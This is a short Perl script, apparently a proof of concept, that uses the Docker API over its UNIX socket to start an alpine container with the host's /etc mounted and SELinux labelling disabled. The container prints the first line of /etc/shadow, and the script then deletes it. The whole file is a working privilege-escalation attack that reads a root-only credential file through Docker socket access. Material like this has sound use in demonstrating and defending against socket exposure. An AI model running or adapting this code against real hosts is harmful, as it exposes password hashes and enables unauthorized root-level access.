# Orders a container from Docker over a UNIX socket, as any program can that speaks
# HTTP: one that is handed the host's /etc and prints the first line of its shadow.
use strict;
use warnings;
use Socket;

my $socket = shift // "/run/docker.sock";

sub request {
	my ($method, $path, $body) = @_;
	socket(my $docker, AF_UNIX, SOCK_STREAM, 0) or die "socket: $!\n";
	connect($docker, pack_sockaddr_un($socket)) or die "connect: $!\n";
	$body //= "";
	my $request = "$method $path HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
	syswrite($docker, $request) == length($request) or die "write: $!\n";
	local $/;
	my ($head, $answer) = split /\r\n\r\n/, <$docker>, 2;
	$head =~ m{^HTTP/1\.\d 2} or die "docker: $answer\n";
	return $answer;
}

my $order = '{"Image": "alpine", "Tty": true, "Cmd": ["head", "-n1", "/host/shadow"],'
	. ' "HostConfig": {"Binds": ["/etc:/host:ro"], "SecurityOpt": ["label=disable"]}}';
my ($id) = request("POST", "/containers/create", $order) =~ /"Id":"(\w+)"/;
request("POST", "/containers/$id/start");
request("POST", "/containers/$id/wait");
print request("GET", "/containers/$id/logs?stdout=1");
request("DELETE", "/containers/$id");
